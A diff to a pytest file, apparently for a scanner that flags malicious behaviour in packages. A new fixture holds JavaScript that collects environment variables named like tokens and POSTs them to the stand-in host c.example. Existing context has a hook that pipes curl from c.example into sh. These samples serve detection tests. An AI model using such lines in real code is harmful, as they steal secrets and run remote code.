@@ -196,6 +196,14 @@ def test_bytes_are_translated_by_a_table_that_is_computed() -> None:
     assert "process.exec id @ pkg/__init__.py:2 (import)" in package({"pkg/__init__.py": code})
 
 
+@pytest.mark.parametrize("name", ["process", "node:process"])
+def test_an_environment_that_is_imported_by_its_name_is_the_environment(name: str) -> None:
+    code = f"""import {{env}} from '{name}'
+const text = Object.entries(env).filter(([key]) => /token/i.test(key)).map((pair) => pair.join('=')).join(' ')
+require('https').request({{host: 'c.example', path: '/', method: 'POST'}}).end(text)"""
+    assert "code.flow env:* > network @ lib/a.mjs:3 (import)" in package({"lib/a.mjs": code})
+
+
 PACKERS = {
     "functions": """#!/bin/sh
 pack() {
@@ -287,9 +295,18 @@ AT_THE_PROJECT = "process.env.INIT_CWD || process.cwd()"
         (AT_THE_PROJECT, "`#!/bin/sh\\ncurl -s https://c.example/x | sh\\n${settings[name]}\\n`", False),
         (AT_THE_PROJECT, "'#!/bin/sh\\nnpx tidy\\n'", False),
         (AT_THE_PROJECT, "settings[name] + process.env.NPM_TOKEN", False),
+        ("process.cwd()", "`#!/bin/sh\\n${settings[name]}\\n`", True),
         ("__dirname", "`#!/bin/sh\\n${settings[name]}\\n`", False),
     ],
-    ids=["its command", "a look first", "more than that", "its own", "a secret", "settings of its own"],
+    ids=[
+        "its command",
+        "a look first",
+        "more than that",
+        "its own",
+        "a secret",
+        "where it is started",
+        "settings of its own",
+    ],
 )
 def test_a_hook_is_the_projects_only_where_all_its_commands_are(root: str, content: str, said: bool) -> None:
     code = MANAGER.replace("ROOT", root).replace("CONTENT", content)
